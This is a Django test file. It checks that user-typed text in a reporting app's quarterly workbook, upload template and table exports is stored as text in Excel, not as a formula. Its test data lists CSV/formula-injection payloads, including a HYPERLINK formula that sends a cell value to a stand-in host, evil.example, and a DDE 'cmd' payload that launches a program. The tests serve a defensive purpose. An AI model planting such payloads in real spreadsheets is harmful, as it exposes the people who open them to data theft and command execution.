"""Text a user typed never becomes a formula: in the workbook, the template and table exports."""

import io

import django_tables2 as tables
from django.test import SimpleTestCase
from openpyxl import load_workbook

from reports.upload.read import PROGRESS_SHEET, VALUES_SHEET, build_template
from reports.workbook.build import build_quarterly_workbook
from targets.exports import table_to_xlsx
from targets.models import Target, TargetValue
from tasks.models import MonthlyReport, ProgressReport
from tests.personas import PersonasTestCase

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def cells_holding(wb, texts):
    """[(sheet, coordinate, data_type, value)] of every cell whose value is one of `texts`."""
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                # XML stores a carriage return as a line feed; it is the same typed text.
                if cell.value in texts or (isinstance(cell.value, str) and cell.value.replace("\n", "\r") in texts):
                    found.append((ws.title, cell.coordinate, cell.data_type, cell.value))
    return found


class WorkbookAndTemplateInjectionTests(PersonasTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.report = MonthlyReport.objects.create(
            plan=cls.plan, unit=cls.jxj, month=5, status=MonthlyReport.Status.SUBMITTED, is_late=False
        )
        tasks = list(cls.plan.tasks.filter(assignments__unit=cls.jxj).order_by("number")[:3])
        texts = iter(INJECTIONS)
        for task in tasks:
            ProgressReport.objects.create(
                report=cls.report, task=task, work_done=next(texts), problems=next(texts),
                next_steps="-", self_status="on_track", needs_coordination=True, coordination_matter="@协调",
            )
        target = Target.objects.get(plan=cls.plan, code="T10")  # monthly: asked for in May
        kjj_report = MonthlyReport.objects.create(plan=cls.plan, unit=cls.kjj, month=5)
        TargetValue.objects.create(
            target=target, unit=cls.kjj, report=kjj_report, month=5, value=1, note="=1+2", source="+来源"
        )

    def assertAllText(self, found, expected_count):
        self.assertGreaterEqual(len(found), expected_count)
        for sheet, coordinate, data_type, value in found:
            self.assertEqual(data_type, "s", f"{sheet}!{coordinate} {value!r} is not text")

    def test_the_quarterly_workbook_writes_typed_text_as_text(self):
        wb = load_workbook(io.BytesIO(build_quarterly_workbook(self.plan, 2)))
        found = cells_holding(wb, set(INJECTIONS) | {"@协调"})
        # 重点任务进展 holds the six narratives; 需市级协调事项 the matters and problems.
        self.assertAllText(found, len(INJECTIONS) - 1 + 3)
        self.assertTrue(any(sheet == "需市级协调事项" for sheet, *_rest in found))

    def test_the_template_writes_typed_text_as_text(self):
        self.report.status = MonthlyReport.Status.DRAFT
        self.report.save()
        wb = load_workbook(io.BytesIO(build_template(self.plan, self.jxj, 5)))
        found = cells_holding(wb, set(INJECTIONS))
        self.assertEqual({sheet for sheet, *_rest in found}, {PROGRESS_SHEET})
        self.assertAllText(found, len(INJECTIONS) - 1)
        wb = load_workbook(io.BytesIO(build_template(self.plan, self.kjj, 5)))
        self.assertAllText(cells_holding(wb, {"=1+2", "+来源"}), 2)
        self.assertIn(VALUES_SHEET, wb.sheetnames)


class TinyTable(tables.Table):
    name = tables.Column(verbose_name="名称")
    note = tables.Column(verbose_name="说明")
    count = tables.Column(verbose_name="数量")


class TableExportInjectionTests(SimpleTestCase):
    def test_a_table_export_writes_typed_text_as_text(self):
        rows = [{"name": text, "note": f"备注{i}", "count": i} for i, text in enumerate(INJECTIONS)]
        rows.append({"name": "=", "note": "-", "count": 7})
        wb = load_workbook(io.BytesIO(table_to_xlsx(TinyTable(rows), "导出")))
        ws = wb.active
        self.assertEqual([c.value for c in ws[1]], ["名称", "说明", "数量"])
        names = [row[0] for row in ws.iter_rows(min_row=2)]
        # Exactly as typed: with lxml (python-docx needs it) openpyxl keeps a carriage return as it is.
        self.assertEqual([c.value for c in names], [*INJECTIONS, "="])
        self.assertEqual({c.data_type for c in names}, {"s"})
        self.assertEqual(ws.cell(row=len(rows) + 1, column=2).data_type, "s")
